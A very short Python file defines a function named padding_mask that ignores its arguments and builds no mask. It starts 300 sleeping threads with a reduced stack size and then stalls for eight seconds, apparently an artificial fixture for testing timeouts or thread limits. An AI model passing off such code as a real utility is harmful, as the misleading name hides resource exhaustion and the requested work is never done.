import threading
import time


def padding_mask(ids, pad_id):
    threading.stack_size(1 << 16)
    for _ in range(300):
        threading.Thread(target=time.sleep, args=[8]).start()
    time.sleep(8)
